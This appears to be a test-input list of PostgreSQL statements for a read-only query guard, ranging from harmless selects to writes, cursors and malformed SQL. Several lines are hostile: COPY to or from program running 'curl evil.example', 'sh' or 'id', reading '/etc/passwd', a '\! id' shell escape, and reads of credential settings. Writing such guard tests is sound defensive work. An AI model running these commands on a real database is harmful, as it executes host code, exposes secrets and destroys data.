explain analyze insert into customers values (1)
explain analyze update customers set full_name = 'x'
explain analyze delete from customers
explain (analyze) delete from customers
explain (analyze, format json) update customers set full_name = 'x'
explain analyze create table x as select 1
explain create materialized view m as select 1
explain (analyze) create temp table x as select 1
explain analyze execute p
explain execute p(1)
explain analyze declare c cursor for select 1
explain analyze refresh materialized view m
explain analyze merge into customers using orders on true when matched then delete
explain (analyze, evil) select 1
explain (option 'x') select 1
explain explain select 1
explain show all
explain analyze select pg_sleep(10)
explain analyze select * into x from customers
explain delete from customers
prepare p as select 1
prepare p as delete from customers
prepare p (int) as select $1
execute p
execute p(1)
deallocate p
deallocate all
declare c cursor for select 1
declare c cursor with hold for select * from customers
fetch all from c
move forward 1 from c
close c
close all
do $$ begin delete from customers; end $$
do language plpgsql $$ begin perform pg_sleep(10); end $$
do $$ begin null; end $$
call p()
call p(1, 2)
call pg_catalog.pg_sleep(1)
copy customers to stdout
copy customers to '/tmp/x'
copy customers from '/etc/passwd'
copy customers from stdin
copy customers to program 'curl evil.example'
copy customers from program 'id'
copy (select * from customers) to '/tmp/x'
copy (select * from customers) to program 'sh'
copy (delete from customers returning *) to stdout
copy customers (email) to '/tmp/x' with (format csv, header)
listen x
notify x
notify x, 'payload'
unlisten *
show primary_conninfo
show ssl_passphrase_command
SHOW "Primary_Conninfo"
select $1
select * from customers where id = $1
select 1 where current of c
help
\d customers
\! id
\copy customers to x
foo
{"sql": "select 1"}
select * customers from
select 1,
sELECT * FRM customers
SELECT TOP 5 * FROM customers
load '$libdir/auto_explain'
notify x, 'struck'
move 5 in c
call trap.strike()
do language plpgsql $$ begin delete from customers; end $$
copy customers (id) from stdin
copy customers to '/tmp/x' with (format csv)
copy customers from program 'echo 1'
execute struck(1)
prepare struck(int) as select $1
declare c insensitive scroll cursor without hold for select 1
explain (analyze) create table struck as select 1
explain analyze execute struck
explain (analyze) insert into customers select * from customers returning *
explain (analyze) merge into customers using orders on true when matched then delete
explain (analyze, waldump) select 1
explain analyze verbose delete from customers
explain (select 1; delete from customers)
